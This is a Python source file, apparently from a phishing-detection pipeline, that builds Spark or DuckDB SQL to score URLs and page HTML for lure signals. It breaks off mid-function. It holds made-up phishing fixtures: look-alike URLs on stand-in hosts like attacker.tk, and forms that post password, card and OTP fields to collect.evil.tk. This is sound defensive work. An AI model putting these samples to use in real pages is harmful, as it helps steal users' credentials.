"""Plans of the page rules: url parts, page features, gates, signals, scores, each a column of the page's own row.

Every plan is one chain of common table expressions over `pages`: one scan, no join over pages, no explode before the last step.
What several rules read (site, decoded text, parsed inputs, link sites) is a column of its own level, so it is computed once. Fixed
lists are single literals; the suffix rules and the blocklist's filter are one-row views that a plan reads as scalars.

The pages are all rows of the table, with their own url and html, and SHAPES: made-up attack pages with ids below zero. Own pages count as
harmless (label 0), shaped ones as their shape says.

`mode` "page" is the semantics of the live pages, "eval" that of the offline evaluation: fewer terms and other text rules there, no label
checks, and all forms count.
"""

from __future__ import annotations

from . import dims
from .urlparts import SCHEME, eval_levels, page_levels
from .spec import DOM_SIGNALS, HIDDEN_IFRAMES_CAP, TINY_CAP, URL_SIGNALS

#: (url, label) of the shaped pages.
URLS = (
    ("https://www.example.org/plain", 0), ("http://192.168.1.50:8080/p/1", 1), ("https://www.microsoft.com@evil-1.tk/auth", 1), ("https://paypa1.com/login/1", 1), ("https://paypal.com.acct-1.tk/login", 1), ("https://login-microsoftonline-com.evil.xyz/login", 1),
    ("https://login.microsoftonline.com.attacker.tk/oauth2/v2.0/authorize", 1), ("https://etax.gov.tw.refund-2026.click/login", 1), ("https://www.gov-tw.com/n/1", 1), ("https://random-host.zip/login_data?id=1", 1),
    ("https://x1.click/a3f9c2e1b8d7f6a2c1e9b8a7d6kqz/login", 1), ("https://enc.info/a%2541b", 1), ("https://long.shop/" + "segment/" * 13, 1), ("https://a-b-c-d-e1.example.net/", 1), ("https://a.b.c.d.e.example.org/x", 1),
    ("https://www.cathaybk.com.tw/personal/login", 0), ("https://cool.ntu.edu.tw/courses/57494", 0), ("https://www.nhi.gov.tw/Content_List.aspx?id=1", 0), ("https://example.tk/f%E2%80%AEx.pdf", 1), ("ftp://files.example.com/1", 0), ("not a url", 0),
    ("https://www.bad-parcel.shop/track", 1), ("https://shop1.top/chase/verify", 1), ("https://www.google.com/search?q=phishing", 0), ("https://xn--pple-43d.com/login", 1), ("https://user@XN--PYPAL-4VE.com:8443/x", 1), ("https://www.xn--mnchen-3ya.de/", 0),
    ("https://cathaybk-login.tw-secure.com/personal", 1), ("https://tenant.okta.com/.well-known/openid-configuration", 0), ("https://example.com/login%E2%80%8B", 1), ("https://trusted.example.edu/icash/pay", 0), ("http://[2001:db8::1]/x", 1),
)
#: Html of the shaped pages.
HTML = (
    "<html><head><title>Shop</title></head><body><p>Plain text of a page.</p></body></html>",
    '<title>Sign in</title><form action="https://collect.evil.tk/p"><input type="password" name="pw"></form>',
    "<FORM ACTION='//accounts.google.com/signin'><INPUT TYPE=password NAME=pw></FORM>",
    '<form action="https://c.evil.xyz/x"><input name="cardnumber" type="text"><input type="password" name="p"><input name="otp" type="text"></form>',
    '<form action="/self"><input name="idno" placeholder="A123456789" type="text"><input name="cvv" type="text"><input autocomplete="one-time-code" name="code" type="text"></form><form action="//drop.evil.tk/y"></form>',
    '<form action="/w"><input type="password" name="k">' + "".join(f"<input placeholder='word {i}'>" for i in range(1, 13)) + "</form>",
    '<iframe src="https://h.example.com/" style="display:none"></iframe><iframe src="https://h2.example.com/" width="1" height="1"></iframe><a href="/x" style="opacity: 0">x</a><button style="position:absolute;left:-9999px">y</button>',
    "".join(f'<script src="//cdn{i}.site{i}.com/a.js"></script>' for i in range(6)) + '<script src="/own.js"></script>',
    '<body oncontextmenu="return false"><script>document.onkeydown=function(e){if(e.keyCode === 123){return false}}</script></body>',
    '<title>check</title><div class="cf-turnstile" data-sitekey="k"></div>',
    '<link rel="icon" href="https://www.paypalobjects.com/favicon.ico"><link rel="icon" href="/z.ico"><p>Pay​Pal</p>',
    "<title>中華郵政</title><p>中華郵政 請輸入賬號 短信 激活​</p>",
    '<form action="/a"></form><div class="h-captcha"></div><link rel="shortcut icon" href="https://www.microsoft.com/favicon.ico">',
)
#: Parts of the corpus that shaped pages belong to, by html; own pages are 'crawl'.
PARTS = {1: "control", 3: "adversarial"}
#: Names that the shaped user trusts; a parameter of the gate.
USER_ALLOWED = ("example.edu",)
#: Lists of the gates where none are given: names of the user, popular sites, institutions.
LISTS = {"user": USER_ALLOWED, "popular": dims.POPULAR, "institutions": dims.INSTITUTIONS}
ZERO_WIDTH, BIDI, TAGS = "[​-‍⁠﻿᠎]", "[‪-‮⁦-⁩]", "[\U000e0000-\U000e007f]"
#: A filled advert slot: what the simulated rendering adds to a page.
RENDERED = '<form action="//ads.partner.net/poll"><input type="password" name="a"></form><iframe width="0" height="0"></iframe><div class="ad">sponsored '


def step(name: str) -> str:
    """Mark after a level that later levels read alone: Spark analyses the plan up to here as a view of its own."""
    return f"/*step {name}*/"


def kept(d, source: str, condition: str, **columns: str) -> str:
    """Columns of the rows of source for which a condition on derived columns holds.

    The condition decides how often the row is repeated (never or once) instead of being a filter: the optimizer would move a filter
    below all levels and write every derived column out again in it.
    """
    rows = d.filter(d.array(d.struct(**columns)), "row", condition)
    return f"SELECT {', '.join(f'e.{c} AS {c}' for c in columns)} FROM ({d.unnest(rows, source, 'page_id AS pid', 'e')})"


def shaped(d) -> str:
    """z(page_id, url, html, label, part): every shaped url with every shaped html."""
    urls = d.array(*(d.struct(u=d.lit(u), y=str(y), i=str(i)) for i, (u, y) in enumerate(URLS)))
    html = d.array(*(d.struct(h=d.lit(h), j=str(j), p=d.lit(PARTS.get(j, 'shape'))) for j, h in enumerate(HTML)))
    return f"z1 AS ({d.unnest(urls, '(SELECT 1 AS one)', 'one', 'a')}), z AS (SELECT CAST(-(a.i * 32 + b.j + 1) AS BIGINT) AS page_id, a.u AS url, b.h AS html, a.y AS label, b.p AS part FROM ({d.unnest(html, 'z1', 'a', 'b')}))"


def corpus(d) -> str:
    """x(page_id, url, html, label, part): all pages and, unless the dialect leaves them out, the shaped ones."""
    if not d.shapes:
        return "x AS (SELECT CAST(page_id AS BIGINT) AS page_id, coalesce(url, '') AS url, coalesce(html, '') AS html, 0 AS label, 'crawl' AS part FROM pages)"
    return f"{shaped(d)}, x1 AS (SELECT CAST(page_id AS BIGINT) AS page_id, coalesce(url, '') AS url, coalesce(html, '') AS html, 0 AS label, 'crawl' AS part FROM pages UNION ALL SELECT page_id, url, html, label, part FROM z), x AS ({d.whole('x1')})"


def site(d, host: str, rules: str) -> str:
    """Registrable name of a host by the rules of its top-level name (null: no rules of two labels and more); null for addresses and suffixes."""
    has = lambda x: f"instr({rules}, concat(' ', {x}, ' ')) > 0"
    t = lambda n: d.tail(host, n)
    dots = f"length({host}) - length(replace({host}, '.', ''))"
    wild = lambda n: f"{has(f"concat('*.', {t(n - 1)})")}"
    size = f"CASE WHEN {rules} IS NULL THEN 1 WHEN {has(f"concat('!', {t(3)})")} AND {dots} >= 2 THEN 2 WHEN {has(f"concat('!', {t(2)})")} AND {dots} >= 1 THEN 1 WHEN {has(f"concat('!', {t(4)})")} AND {dots} >= 3 THEN 3 WHEN {has(t(4))} OR {dots} >= 3 AND {wild(4)} THEN 4 WHEN {has(t(3))} OR {dots} >= 2 AND {wild(3)} THEN 3 WHEN {has(t(2))} OR {dots} >= 1 AND {wild(2)} THEN 2 ELSE 1 END"
    longer = lambda n: f"WHEN {n} THEN CASE WHEN {dots} >= {n} THEN {t(n + 1)} END"
    return f"CASE WHEN {host} = '' OR {address(d, host)} THEN NULL ELSE CASE {size} {' '.join(map(longer, (1, 2, 3, 4)))} END END"


def address(d, host: str) -> str:
    return f"({d.rx(host, r'^[0-9]{1,3}(\.[0-9]{1,3}){3}$')} OR {host} LIKE '[%')"


def urls(d, source: str = "x", mode: str = "page") -> str:
    """u: scheme, auth, host, port, path, site columns and decoded texts."""
    levels = page_levels if mode == "page" else eval_levels
    return (
        f"{corpus(d)}, {levels(d, f'{d.tables(source)} x0')}, "
        f"c1 AS (SELECT *, {d.suffixes_of('host')} AS rules, {address(d, 'host')} AS is_ip FROM c), "
        f"c2 AS (SELECT *, {site(d, 'host', 'rules')} AS etld1 FROM c1), "
        f"u AS (SELECT *, usable AS valid, lower(path) AS lpath, coalesce(split_part(etld1, '.', 1), '') AS label_part, {d.split('host', '.')} AS labels, "
        f"CASE WHEN etld1 IS NULL OR length(host) <= length(etld1) THEN '' ELSE substring(host, 1, length(host) - length(etld1) - 1) END AS subdomain, "
        f"concat(href, ' ', {d.decoded('href')}) AS both_href, concat(host, ' ', {d.decoded('host')}) AS both_host, {d.rep('path', '[/._-]', '')} AS stripped FROM c2){step('u')}"
    )


def listed(d, x: str, items) -> str:
    return "false" if not items else f"{x} IN ({', '.join(map(d.lit, items))})"


def facts(d, source: str = "u", mode: str = "page") -> str:
    """v: u with what url rules and their texts share: first matches, entropy, label findings."""
    canonical = f"coalesce({listed(d, 'etld1', dims.BRANDS)}, false)"
    names = d.words(dict.fromkeys(b.split(".")[0] for b in dims.BRANDS))
    needles = [*dims.BRANDS, *(h for h in dims.AUTH_HOSTS if h not in dims.BRANDS)]
    squat = d.first(d.filter(names, "bl", "abs(length(bl) - length(label_part)) <= 2 AND bl <> label_part AND length(bl) >= 4 AND levenshtein(bl, label_part) BETWEEN 1 AND 2"))
    subs = d.first(d.filter(d.map(d.split("subdomain", "."), "sl", f"{d.map_of(dims.alias_map())}[sl]"), "al", "al IS NOT NULL AND al <> etld1"))
    long_alias = {a.replace("-", "/"): b for a, b in dims.alias_map().items() if len(a) >= 4}
    paths = d.first(d.filter(d.entries(long_alias), "al", "instr(slashed, concat('/', al.key, '/')) > 0 AND al.value <> etld1"))
    embedded = d.first(d.filter(d.words(needles), "nd", "host <> nd AND instr(dotted, concat('.', nd, '.')) > 0 AND instr(dotted, concat('.', nd, '.')) + length(nd) + 1 < length(dotted)"))
    flat = d.first(d.filter("labels", "lb", f"instr(lb, '-') > 0 AND length(lb) >= 10 AND {d.any(d.words(needles), 'nd', "concat('.', replace(lb, '-', '.')) LIKE concat('%.', nd)")}"))
    ends = " ".join(f"WHEN {d.rx('lpath', p)}" + (f" AND NOT {listed(d, 'etld1', own)}" if own else "") + f" THEN {d.lit(name)}" for (p, own), name in zip(dims.ENDPOINTS, dims.ENDPOINT_NAMES))
    share = "(CAST(length(stripped) - length(replace(stripped, ch, '')) AS DOUBLE) / length(stripped))"
    chars = d.distinct(d.filter(d.split("stripped", ""), "ch", "ch <> ''"))
    entropy = d.fold(d.map(chars, "ch", f"-{share} * log2({share})"), "CAST(0 AS DOUBLE)", "acc", "v", "acc + v")
    return (
        f"v1 AS (SELECT *, concat('.', host, '.') AS dotted, concat('/', translate(lpath, '-_', '//'), '/') AS slashed, etld1 IS NOT NULL AND NOT {canonical} AS foreign_site, "
        f"CASE WHEN length(stripped) >= 16 THEN {entropy} ELSE CAST(0 AS DOUBLE) END AS entropy, {d.filter('labels', 'l', "l LIKE 'xn--%'") if mode == 'page' else d.filter('labels', 'l', 'false')} AS coded FROM {source}), "
        f"v AS (SELECT *, CASE WHEN foreign_site THEN {squat} END AS squat, CASE WHEN foreign_site AND subdomain <> '' THEN {subs} END AS sub_brand, CASE WHEN foreign_site AND length(path) > 1 THEN {paths} END AS path_brand, "
        f"CASE WHEN foreign_site AND NOT {listed(d, 'host', dims.AUTH_HOSTS)} THEN {embedded} END AS embedded, CASE WHEN foreign_site AND NOT {listed(d, 'host', dims.AUTH_HOSTS)} THEN {flat} END AS flat, "
        f"CASE WHEN etld1 IS NOT NULL THEN CASE {ends} END END AS endpoint, split_part(etld1, '.', -1) AS top, {d.map('coded', 'l', d.struct(label='l', plain=d.punycode('l')))} AS plain FROM v1)"
    )


Rule = tuple[str, str, str, str]


def url_rules(d) -> tuple[list[Rule], list[Rule]]:
    """(id, weight, predicate, detail) over v, in order: rules before and after the label findings."""
    w = URL_SIGNALS
    tier = {k: f"coalesce({listed(d, 'top', v)}, false)" for k, v in dims.TLD_TIERS.items()}
    has = lambda x, p: d.rx(x, p)
    quoted = lambda x: f"concat('\"', {x}, '\"')"
    say = lambda *parts: f"concat({', '.join(parts)})"
    before = {
        "url.ip_as_host": ("is_ip", say("'the host is an address: '", "host")),
        "url.userinfo_at": ("instr(auth, '@') > 0", "'an @ stands before the host'"),
        "url.nonstandard_port": ("port NOT IN ('', '80', '443')", say("'unusual port '", "port")),
        "url.long": ("length(href) > 100", say("'the url has '", "length(href)", "' characters'")),
        "url.many_hyphens": ("length(host) - length(replace(host, '-', '')) >= 4", say("'the host has '", "length(host) - length(replace(host, '-', ''))", "' hyphens'")),
        "url.many_subdomains": ("subdomain <> '' AND length(subdomain) - length(replace(subdomain, '.', '')) >= 3", say("length(subdomain) - length(replace(subdomain, '.', '')) + 1", "' labels before the site'")),
        "url.high_entropy_path": ("entropy > 4.000000001", say("'random-looking path of '", "length(stripped)", "' characters'")),
        "url.double_encoded": (has("href", "%25[0-9a-fA-F]{2}"), "'percent-encoded twice'"),
    }
    legit = "coalesce(etld1 LIKE '%.gov.tw', false)"
    after = {
        "url.typosquat_brand": ("squat IS NOT NULL", say(quoted("label_part"), "' is '", "levenshtein(squat, label_part)", "' edits from the brand '", quoted("squat"))),
        "url.subdomain_brand_abuse": ("sub_brand IS NOT NULL", say("'a subdomain names '", "sub_brand", "', the site is '", "etld1")),
        "url.path_brand_abuse": ("path_brand IS NOT NULL", say("'the path names '", "path_brand.value", "', the site is '", "etld1")),
        "url.tld_high_risk": (tier["high"], say("'high-risk top-level name .'", "top")),
        "url.tld_medium_risk": (f"{tier['medium']} AND NOT {tier['high']}", say("'elevated-risk top-level name .'", "top")),
        "url.tld_low_risk": (f"{tier['low']} AND NOT {tier['high']} AND NOT {tier['medium']}", say("'mildly risky top-level name .'", "top")),
        "url.gov_tw_substring_abuse": (f"{has('host', r'(^|\.)gov\.tw\.')} AND NOT {legit}", say("host", "' holds gov.tw, the site is '", "coalesce(etld1, '?')")),
        "url.gov_tw_pseudo_tld": (f"{has('etld1', r'\bgov\.tw\.[a-z]{2,}$')} AND NOT {legit}", say("etld1", "' puts gov.tw before another registry'")),
        "url.gov_tw_hyphen_variant": (f"label_part IN ('gov-tw', 'govtw', 'tw-gov', 'twgov') AND NOT {legit}", say(quoted("label_part"), "' imitates gov.tw'")),
        "url.reverse_proxy_fqdn": ("embedded IS NOT NULL", say("'the host embeds '", "embedded", "', the site is '", "etld1")),
        "url.reverse_proxy_hyphen_fqdn": ("embedded IS NULL AND flat IS NOT NULL", say("'the label '", quoted("flat"), "' spells a brand host with hyphens'")),
        "url.phishlet_endpoint": ("endpoint IS NOT NULL", say("endpoint", "' on a foreign host'")),
        "url.zero_width_in_host": (has("both_host", ZERO_WIDTH), "'invisible characters in the host'"),
        "url.zero_width_in_url": (f"NOT {has('both_host', ZERO_WIDTH)} AND {has('both_href', ZERO_WIDTH)}", "'invisible characters in path or query'"),
        "url.bidi_override_in_host": (has("both_host", BIDI), "'text direction override in the host'"),
        "url.bidi_override_in_url": (f"NOT {has('both_host', BIDI)} AND {has('both_href', BIDI)}", "'text direction override in path or query'"),
        "url.tag_char_in_url": (has("both_href", TAGS), "'invisible tag characters in the url'"),
    }
    rows = lambda preds: [(k, str(w[k]), f"coalesce({p}, false)", t) for k, (p, t) in preds.items()]
    return rows(before), rows(after)


def signal(d, stage: str, key: str, weight: str, detail: str) -> str:
    return d.struct(stage=d.lit(stage), id=key, weight=f"CAST({weight} AS BIGINT)", detail=detail)


def label_signals(d) -> str:
    """Findings per label of the host: coded labels, coded look-alikes of a brand, scripts mixed in one label."""
    one = lambda key, cond, detail: f"CASE WHEN {cond} THEN {signal(d, 'stage1', d.lit(key), str(URL_SIGNALS[key]), detail)} END"
    folded = d.folded(d.look("q.plain"))
    names = d.words(dict.fromkeys(b.split(".")[0] for b in dims.BRANDS))
    brand = d.any(names, "bn", f"bn = {folded} AND bn <> {d.look('q.plain')}")
    latin, cyrillic, greek = (f"{d.rx('l', p)}" for p in ("[A-Za-z]", "[Ѐ-ӿ]", "[Ͱ-Ͽ]"))
    coded = d.map("plain", "q", d.array(one("url.punycode_label", "true", "concat(q.label, ' reads ', q.plain)"), one("url.punycode_brand_lookalike", brand, f"concat(q.plain, ' looks like ', {folded})")))
    mixed = d.map(d.filter("labels", "l", f"{cyrillic} AND ({latin} OR {greek}) OR {greek} AND {latin}"), "l", d.array(one("url.mixed_script_label", "true", "concat(l, ' mixes scripts')")))
    return d.filter(d.flatten(d.concat(coded, mixed)), "s", "s IS NOT NULL")


def fired(d, stage: str, rows: list[Rule]) -> str:
    """Array of the signals of a row whose predicates hold, in order."""
    return d.filter(d.array(*(f"CASE WHEN {p} THEN {signal(d, stage, d.lit(k), w, t)} END" for k, w, p, t in rows)), "s", "s IS NOT NULL")


def bloom_hit(d) -> str:
    """Host or site, with or without www., in the blocklist's filter: its bits, size and number of hashes are columns of the row `bloom`."""
    from .blocklist import MASK, PRIME, SEED_A, SEED_B

    bare = lambda x: d.rep(x, r"^www\.", "")
    names = d.filter(d.distinct(d.array("host", bare("host"), "coalesce(etld1, '')", bare("coalesce(etld1, '')"))), "nm", "nm <> ''")
    fnv = lambda seed: d.fold(d.codes("nm"), f"CAST({seed} AS BIGINT)", "h", "b", f"({d.xor('h', 'b')} * {PRIME}) & {MASK}")
    hashed = d.map(names, "nm", d.struct(a=fnv(SEED_A), b=f"({fnv(SEED_B)} | 1)"))
    place = f"((((k.a + i * k.b) & {MASK})) % bloom.m)"
    return d.any(hashed, "k", d.every(d.seq("0", "bloom.k - 1"), "i", f"{d.bit('bloom', place)} = 1"))


def gate(d) -> str:
    """First gate that holds, over u. The lists of the user, of popular sites and of institutions are the dialect's."""
    user, popular, institutions = (d.lists.get(k, v) for k, v in LISTS.items())
    return (
        f"CASE WHEN {listed(d, 'etld1', user)} THEN 'url.user_allowlist_hit' WHEN NOT valid THEN 'url.parse_failed' WHEN scheme NOT IN ('http', 'https') THEN 'non_http' WHEN {listed(d, 'etld1', popular)} THEN 'url.allowlist_hit' "
        f"WHEN etld1 LIKE '%.edu.tw' OR etld1 LIKE '%.gov.tw' THEN 'url.tw_institutional_tld' WHEN {listed(d, 'etld1', institutions)} THEN 'url.tw_allowlist_hit' WHEN {bloom_hit(d)} THEN 'url.bloomfilter_blacklist_hit' ELSE '' END"
    )


def stage1(d, mode: str = "page") -> str:
    """g1: v with gate, sig1 (signals of the url) and s1 (their sum, at most 100)."""
    before, after = url_rules(d)
    site_text = lambda text: f"concat(coalesce(etld1, ''), ' {text}')"
    marks = {
        "url.user_allowlist_hit": (0, site_text("is on the user''s list" if d.name == "duckdb" else "is on the user\\'s list")), "url.parse_failed": (0, "concat('no url: ', substring(url, 1, 80))"), "url.allowlist_hit": (0, site_text("is on the popular list")),
        "url.tw_institutional_tld": (0, site_text("is an institution by its suffix")), "url.tw_allowlist_hit": (0, site_text("is on the list of institutions")), "url.bloomfilter_blacklist_hit": (95, site_text("is on the blocklist")),
    }
    gated = [(k, str(w), f"gate = '{k}'", t) for k, (w, t) in marks.items()]
    signals = d.concat(fired(d, "stage1", before), *([label_signals(d)] if mode == "page" else []), fired(d, "stage1", after))
    return (
        f"{urls(d, mode=mode)}, g0 AS (SELECT *, {gate(d)} AS gate FROM {d.with_bloom('u')} u0), {facts(d, 'g0', mode)}, "
        f"g AS (SELECT *, CASE WHEN gate = '' THEN {signals} ELSE {fired(d, 'stage1', gated)} END AS sig1 FROM v), "
        f"g1 AS (SELECT *, CAST(least(100, {total(d, 'sig1')}) AS BIGINT) AS s1 FROM g){step('g1')}"
    )


def total(d, signals: str) -> str:
    return d.fold(d.map(signals, "e", "e.weight"), "CAST(0 AS BIGINT)", "acc", "v", "acc + v")


#: An attribute with its value, in double, single or no quotes.
ATTRIBUTE = r"[^\s\"'<>/=]+\s*=\s*(?:\"[^\"]*\"|'[^']*'|[^\s\"'>]+)|[^\s\"'<>/=]+"
#: Elements whose content is text, not markup, up to their end tag.
RAW = ("script", "style", "title", "textarea")


def tokens_of(d, raw=RAW) -> str:
    """Pattern of a page's tokens: comments, elements of raw text whole, tags. A > inside quotes ends no tag; where quotes do not pair up, any > does.

    What is not ended goes on to the end of the page, so a page is scanned once whatever it holds.
    """
    whole = "|".join(rf"<{name}(?:\s{d.TAG}|>).*?(?:</{name}\b[^>]*>|\z)" for name in raw)
    return rf"(?is)<!--.*?(?:-->|\z)|{whole}|</?[a-z]{d.TAG}|</?[a-z][^>]*(?:>|\z)|<![^>]*(?:>|\z)"


def attributes(d, tag: str) -> str:
    """A tag's attributes as they are written, one string each; the first is its name."""
    return d.all(tag, ATTRIBUTE)


def picked(d, attrs: str, name: str) -> str:
    """Value of an attribute in `attributes`, the first of a name; empty if there is none."""
    value = d.ex(d.first(d.filter(attrs, "av", d.rx("av", rf"(?i)^{name}\s*="))), r"(?s)^[^=]*=\s*(.*)$")
    return f"coalesce({d.trim(value, chr(34) + chr(39))}, '')"


def attr(d, tag: str, name: str) -> str:
    return picked(d, attributes(d, tag), name)


def host_of(d, ref: str, own: str) -> str:
    """Host that a reference points to: its own, or the page's; empty for other schemes."""
    return f"CASE WHEN {d.rx(ref, '(?i)^([a-z][a-z0-9+.-]*:)?//')} THEN lower({d.ex(ref, '(?i)^(?:[a-z][a-z0-9+.-]*:)?//(?:[^/?#]*@)?([^/?#:]*)')}) WHEN {d.rx(ref, '(?i)^[a-z][a-z0-9+.-]*:')} THEN '' ELSE {own} END"


#: Fixed value: elements of a kind (forms, fields, frames, scripts) that a page's features look at.
MOST_NODES = 5000


def dom(d, source: str = "u", mode: str = "page", html: str = "html", p: str = "") -> str:
    """f: page features of source, after urls(d), in place of html; p is a prefix of the level's names."""
    most = (lambda a: d.slice(a, str(MOST_NODES))) if mode == "page" else (lambda a: a)
    named = lambda name: d.filter("toks", "t", d.rx("t", rf"(?i)^<(?:{name})[\s/>]"))
    tags = lambda name: most(named(name))
    blank = tokens_of(d, ("script", "style", "title") if mode == "page" else ("script", "style"))
    field = d.map(d.map(tags("input"), "t", attributes(d, "t")), "ats", d.struct(type=f"lower({picked(d, "ats", 'type')})", name=f"lower({picked(d, "ats", 'name')})", place=picked(d, "ats", "placeholder"), auto=f"lower({picked(d, "ats", 'autocomplete')})", pattern=picked(d, "ats", "pattern")))
    roots = lambda ins: d.filter(d.map(d.filter(ins, "t", f"lower({attr(d, 't', 'type')}) IN ('text', '')"), "t", f"lower(trim({d.rep(f"CASE WHEN {attr(d, 't', 'name')} <> '' THEN {attr(d, 't', 'name')} ELSE {attr(d, 't', 'placeholder')} END", '[0-9]+$', '')}))"), "q", "q <> ''")
    # Forms with their fields, from the tokens alone: a form goes to the first end tag, or to the end of the page; one inside is none.
    sep = chr(1)
    parts = d.filter("toks", "t", d.rx("t", r"(?i)^</?form[\s/>]|^<input[\s/>]"))
    forms = d.all(f"concat({d.lit(sep)}, {d.join(parts, sep)})", rf"(?is){sep}<form[\s/>].*?(?:{sep}</form|\z)")
    inside_form = d.filter(d.split("fm", sep) if d.name == "duckdb" else f"split(fm, {d.lit(sep)})", "t", d.rx("t", r"(?i)^<input[\s/>]"))
    grids = d.map(d.map(forms, "fm", d.struct(ins=inside_form)), "fs", d.struct(secret=d.any("fs.ins", "t", f"lower({attr(d, 't', 'type')}) = 'password'"), roots=roots("fs.ins"), sensitive=d.any("fs.ins", "t", sensitive(d, "t"))))
    dashed = lambda x: d.rep(x, r"[_\s]", "-")
    hidden = d.filter(tags("iframe"), "t", f"{d.rx(attr(d, 't', 'style'), '(?i)display *: *none|visibility *: *hidden')} OR {attr(d, 't', 'width')} IN ('0', '1') AND {attr(d, 't', 'height')} IN ('0', '1')")
    active = d.filter("toks", "t", f"{d.rx('t', r'(?i)^<(?:button|form)[\s/>]')} OR {d.rx('t', r'(?i)^<a\s')} AND {d.any(attributes(d, 't'), 'av', d.rx('av', r'(?i)^(?:href|onclick)\s*='))} OR {d.rx('t', r'(?i)^<[a-z]')} AND instr(lower(t), 'onclick') > 0 AND {d.any(attributes(d, 't'), 'av', d.rx('av', r'(?i)^onclick\s*='))}")
    tiny = d.filter(d.slice(active, "500"), "t", d.rx(attr(d, "t", "style"), r"(?i)opacity *: *0*\.?0*(;|$| )|(left|top) *: *-[0-9]{4,}(\.[0-9]+)?px|(^|;| )width *: *[01]px.*height *: *[01]px"))
    opening = rf"(?is)^(<script(?:\s{d.TAG}|>))"
    inline = d.slice(d.filter(named("script"), "s", f"{attr(d, d.ex('s', opening), 'src')} = ''"), "30")
    inside = f"substring({d.rep('s', opening, '')}, 1, 4096)"
    blocked = d.any(named("body|html"), "t", " OR ".join(d.rx(attr(d, "t", a), dims.BLOCKING) for a in ("oncontextmenu", "onkeydown", "onkeyup", "onkeypress")))
    divs = d.filter(named("div"), "t", d.rx("t", "(?i)turnstile|h-captcha"))
    widget = lambda name, word: f"{d.any('divs', 't', f"{d.rx(attr(d, 't', 'class'), rf'(^|\s){name}(\s|$)')} OR {d.any(attributes(d, 't'), 'av', d.rx('av', r'(?i)^data-sitekey'))} AND instr(lower({attr(d, 't', 'class')}), '{word}') > 0")}"
    sources = d.filter(d.map(tags("script"), "t", attr(d, d.ex("t", opening), "src")), "q", "q <> ''")
    frames = d.filter(d.map(tags("iframe"), "t", attr(d, "t", "src")), "q", "q <> ''")
    icon = d.first(d.map(d.filter(named("link"), "t", f"{d.rx(attr(d, 't', 'rel'), r'(?i)(^|\s)icon(\s|$)|^apple-touch-icon$')} AND {attr(d, 't', 'href')} <> ''"), "t", attr(d, "t", "href")))
    acts = d.map(tags("form"), "t", attr(d, "t", "action"))
    target = "CASE WHEN ac = '' THEN href ELSE ac END" if mode == "page" else "ac"  # a form without action posts to its page
    sample = f"trim({d.rep('substring(raw, 1, 2000)', r'\s+', ' ')})" if mode == "page" else f"substring(trim({d.rep('raw', r'\s+', ' ')}), 1, 2000)"
    kinds = d.concat(*(d.map(a, "h", d.struct(kind=f"'{k}'", h="h")) for k, a in (("act", "act_hosts"), ("script", "script_hosts"), ("icon", d.array("icon_host")))))
    placed = d.map(d.map(kinds, "k", d.struct(kind="k.kind", h="k.h", r="psl[split_part(k.h, '.', -1)]")), "k", d.struct(kind="k.kind", site=site(d, "k.h", "k.r")))
    of = lambda kind: d.distinct(d.map(d.filter("placed", "k", f"k.kind = '{kind}' AND k.site IS NOT NULL"), "k", "k.site"))
    drop = "" if d.name == "duckdb" else " EXCEPT (html, toks, divs)"
    return (
        f"{p}f0 AS (SELECT * REPLACE ({html} AS html) FROM {source}), " if d.name == "duckdb" else f"{p}f0 AS (SELECT * EXCEPT (html), {html} AS html FROM {source}), "
    ) + (
        f"{p}f0a AS (SELECT *, {d.filter(d.all('html', tokens_of(d)), 't', f"t LIKE '%>' OR {d.rx('t', '(?i)^<script')}")} AS toks FROM {p}f0), {p}f0b AS (SELECT *, {divs} AS divs FROM {p}f0a), "
        f"{p}f1 AS (SELECT *{drop}, trim({d.rep(f"coalesce({d.ex(d.first(named('title')), r'(?is)^<title[^>]*>(.*?)</title[^>]*>$')}, '')", r'\s+', ' ')}) AS title, {d.rep('html', blank, ' ')} AS raw, {field} AS fields, {grids} AS grids, "
        f"{acts} AS acts, {sources} AS sources, {icon} AS icon, CAST({d.size(hidden)} AS BIGINT) AS hidden_iframes, CAST({d.size(tiny)} AS BIGINT) AS tiny_elements, "
        f"{blocked} OR {d.any(inline, 's', d.rx(inside, '|'.join(dims.ANTI_DEBUG)))} AS anti_debug, {widget('cf-turnstile', 'turnstile')} AS turnstile_div, {widget('h-captcha', 'h-captcha')} AS hcaptcha_div, {frames} AS frames FROM {p}f0b), "
        f"{p}f2 AS (SELECT *, {sample} AS text, CAST(length(trim({d.rep('raw', r'\s+', ' ')})) AS BIGINT) AS full_len, "
        f"{d.any('fields', 'i', "i.type = 'password'")} AS has_pw, {d.any('fields', 'i', f"instr(i.auto, 'one-time-code') > 0 OR {d.rx('i.name', dims.OTP_NAMES)}")} AS has_otp, "
        f"{d.any('fields', 'i', f"{d.rx('i.auto', 'cc-number|^cc-csc$|^cc-exp$')} OR {d.rx(dashed('i.name'), dims.CARD_NAMES)} OR {d.rx('lower(i.place)', dims.CARD_PLACEHOLDERS)}")} AS has_card, "
        f"{d.any('fields', 'i', f"{d.rx(dashed('i.name'), dims.ID_NAMES)} OR {d.rx('i.place', dims.ID_PLACEHOLDERS)} OR instr(i.pattern, '[A-Z]') > 0 AND instr(i.pattern, '[0-9]') > 0")} AS has_id, "
        f"{d.any('grids', 'gr', f"gr.secret AND {d.any(d.distinct('gr.roots'), 'rt', d.size(d.filter('gr.roots', 'rr', 'rr = rt')) + ' >= 8')}")} AS seed_grid, {d.any('grids', 'gr', 'gr.sensitive')} AS sensitive_form, "
        f"turnstile_div OR {d.any('sources', 's', "instr(s, 'challenges.cloudflare.com/turnstile') > 0")} AS turnstile, hcaptcha_div OR {d.any('sources', 's', "instr(s, 'hcaptcha.com/1/api.js') > 0")} OR {d.any('frames', 's', "instr(s, 'hcaptcha.com') > 0")} AS hcaptcha, "
        + (f"CAST({d.size(d.distinct(d.map('acts', 'ac', target)))} AS BIGINT) AS n_actions, " if mode == "page" else f"CAST({d.size('acts')} AS BIGINT) AS n_actions, ")
        + f"{d.distinct(d.map(d.filter('acts', 'ac', 'true' if mode == 'page' else "ac <> ''"), 'ac', host_of(d, 'ac', 'host')))} AS act_hosts, {d.distinct(d.filter(d.map('sources', 'sc', host_of(d, 'sc', 'host')), 'h', 'h <> host'))} AS script_hosts, "
        f"{host_of(d, 'icon', 'host')} AS icon_host FROM {p}f1), "
        f"{p}f2a AS (SELECT *, {placed} AS placed FROM {d.with_suffixes(p + 'f2')} f20), "
        f"{p}f3 AS (SELECT *, {d.filter(of('act'), 's', "s <> coalesce(etld1, '')")} AS act_sites, {d.filter(of('script'), 's', "s <> coalesce(etld1, '')")} AS script_sites, {d.first(of('icon'))} AS icon_site FROM {p}f2a), "
